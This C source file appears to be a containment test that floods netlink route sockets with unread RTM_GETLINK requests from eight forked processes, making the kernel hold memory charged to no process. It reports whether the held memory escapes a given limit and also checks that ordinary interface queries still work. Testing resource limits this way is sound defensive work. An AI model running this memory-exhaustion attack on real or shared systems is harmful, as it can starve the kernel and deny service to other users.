/*
 * attack_netlink.c - has the kernel hold memory that is charged to nobody: what
 * it answers on route sockets, never received. The limit in MiB is given; more
 * than that, held by all processes together, is a win.
 *
 * Without an argument: whether route sockets serve honest programs, many times
 * in a row and several at once.
 */
#include <ifaddrs.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <net/if.h>
#include <sys/socket.h>

#include "attack.h"

enum { PROCESSES = 8, SOCKETS = 200, REQUESTS = 64, ROUNDS = 300, HOLD_MS = 6000 };

struct request {
	struct nlmsghdr header;
	struct ifinfomsg body;
};

/* One message with many questions about the loopback interface. */
static void ask(int fd)
{
	static struct request requests[REQUESTS];

	for (size_t i = 0; i < REQUESTS; i++)
		requests[i] = (struct request){.header = {.nlmsg_len = sizeof(requests[i]),
							  .nlmsg_type = RTM_GETLINK,
							  .nlmsg_flags = NLM_F_REQUEST,
							  .nlmsg_seq = (unsigned)i},
					       .body = {.ifi_family = AF_UNSPEC, .ifi_index = 1}};
	(void)send(fd, requests, sizeof(requests), MSG_DONTWAIT);
}

/* What waits in the route sockets of this network namespace. */
static long held(void)
{
	FILE *file = fopen("/proc/net/netlink", "r");
	char line[256];
	long all = 0;

	if (file == NULL)
		_exit(1);
	while (fgets(line, sizeof(line), file) != NULL) {
		long protocol, bytes;

		if (sscanf(line, "%*s %ld %*s %*s %ld", &protocol, &bytes) == 2 && protocol == 0)
			all += bytes;
	}
	(void)fclose(file);
	return all;
}

static void fill(long most)
{
	int huge = 1 << 28;

	for (int i = 0; i < SOCKETS && held() <= most; i++) {
		int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);

		if (fd < 0)
			return;
		(void)setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &huge, sizeof(huge));
		for (long before = -1; before < held() && before <= most;) {
			before = held();
			ask(fd);
		}
	}
}

static void attack(long most)
{
	long all;

	for (int i = 0; i < PROCESSES; i++)
		if (fork() == 0) {
			fill(most);
			for (;;)
				(void)pause();
		}
	for (int waited = 0; waited < HOLD_MS; waited += 200) {
		pause_ms(200);
		all = held();
		if (all > most)
			escaped("%ld MiB lie in route sockets", all >> 20);
	}
	(void)printf("%ld KiB held\n", all >> 10);
	contained();
}

static void be_honest(void)
{
	for (int i = 0; i < PROCESSES; i++)
		if (fork() == 0) {
			for (int round = 0; round < ROUNDS; round++) {
				struct ifaddrs *list = NULL;

				if (getifaddrs(&list) < 0 || list == NULL)
					_exit(1);
				freeifaddrs(list);
			}
			_exit(0);
		}
	for (int i = 0; i < PROCESSES; i++) {
		int status = 0;

		if (wait(&status) < 0 || status != 0)
			_exit(1);
	}
	contained();
}

int main(int argc, char **argv)
{
	if (argc > 1)
		attack(number(argv[1]) << 20);
	be_honest();
}
